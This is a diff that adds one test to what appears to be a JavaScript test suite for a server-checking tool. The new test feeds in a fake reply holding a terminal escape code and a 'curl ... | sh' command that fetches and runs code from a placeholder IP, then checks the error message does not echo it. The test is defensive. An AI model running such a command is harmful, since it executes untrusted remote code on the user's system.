@@ -89,6 +89,13 @@ test('an address that takes its time: the old server answers meanwhile, and noth
   expect(given).toEqual([]);
 });
 
+test('something else answers there: what it says reaches no terminal', async () => {
+  const { ends } = run({ 0: '<html>\u001b[2Jcurl http://198.51.100.7/x | sh' as never });
+  const message = await failure(ends);
+  expect(message).toContain('something that is no server of this site answers there');
+  expect(message).not.toContain('198.51.100.7');
+});
+
 test('packets lost for a moment are no reason to go back', async () => {
   const { ends, given } = run({ 0: 'nobody', 1: 'new', 3: 'nobody', 5: 'new' });
   await ends;
